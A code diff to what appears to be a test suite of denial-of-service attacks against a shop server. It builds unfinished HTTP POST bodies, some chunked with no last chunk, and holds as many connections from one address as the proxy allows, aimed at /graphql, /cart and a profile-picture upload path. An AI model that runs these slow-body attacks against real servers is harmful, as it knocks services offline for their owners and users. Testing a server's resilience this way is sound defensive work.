@@ -2,8 +2,6 @@ import { setTimeout as delay } from 'node:timers/promises';
 import type { Attack, AttackedShop } from './attack.ts';
 import { openConnection, postRequest } from './raw-http.ts';
 
-/** Below the proxy's 100 connections of an address. */
-const connections = 98;
 const patienceMs = 3_000;
 const kilobyte = 1024;
 
@@ -14,13 +12,15 @@ const unfinished = (path: string, bytes: number, headers: Readonly<Record<string
 /** Chunks without an announced length, and no last chunk. */
 function unfinishedChunks(path: string, bytes: number, headers: Readonly<Record<string, string>>): string {
   const chunk = 'a'.repeat(64 * kilobyte);
-  const head = `POST ${path} HTTP/1.1\r\nHost: shop\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n`;
-  const fields = Object.entries(headers).map(([name, value]) => `${name}: ${value}\r\n`);
+  const head = `POST ${path} HTTP/1.1\r\nHost: shop\r\nTransfer-Encoding: chunked\r\n`;
+  const sent = { 'Content-Type': 'application/json', ...headers };
+  const fields = Object.entries(sent).map(([name, value]) => `${name}: ${value}\r\n`);
   return `${head}${fields.join('')}\r\n${`${chunk.length.toString(16)}\r\n${chunk}\r\n`.repeat(Math.ceil(bytes / chunk.length))}`;
 }
 
 async function holdBodies(shop: AttackedShop, request: string): Promise<string> {
   const from = shop.newAddress();
+  const connections = shop.connectionsOfAddress;
   const sockets = await Promise.all(
     Array.from({ length: connections }, () => openConnection(shop.url, request, from).catch(() => null)),
   );
@@ -39,11 +39,20 @@ const attack = (name: string, request: string, isQuick?: true): Attack => ({
 });
 
 const token = { Authorization: 'JWT x' };
+const image = { ...token, 'Content-Type': 'image/png' };
 const picture = 2_900 * kilobyte;
 
 export const unreadBodies: readonly Attack[] = [
-  attack('2.9 MB with a token that nobody issued', unfinished('/graphql', picture, token), true),
-  attack('2.9 MB in chunks, with such a token', unfinishedChunks('/graphql', picture, token)),
+  attack('2.9 MB with a token that nobody issued', unfinished('/graphql', picture, token)),
+  attack('2.9 MB in chunks, with such a token', unfinishedChunks('/graphql', picture, token), true),
   attack('250 KB without a token', unfinished('/graphql', 250 * kilobyte, {})),
+  attack(
+    '2 MB to the path of pictures, with such a token',
+    unfinished('/upload/profile-picture', 2_000 * kilobyte, image),
+  ),
+  attack(
+    '2 MB in chunks to the path of pictures',
+    unfinishedChunks('/upload/profile-picture', picture, image),
+  ),
   attack('2 MB to the path of a page', unfinished('/cart', 2_000 * kilobyte, token)),
 ];
